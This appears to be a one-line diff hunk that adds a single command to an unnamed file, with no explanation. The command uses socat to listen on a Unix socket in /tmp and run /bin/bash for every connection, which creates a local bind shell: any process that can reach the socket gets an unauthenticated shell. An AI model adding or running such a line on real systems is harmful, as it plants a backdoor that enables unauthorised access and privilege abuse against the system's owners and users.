@@ -1,0 +1,1 @@
+socat UNIX-LISTEN:/tmp/s.sock,fork EXEC:/bin/bash
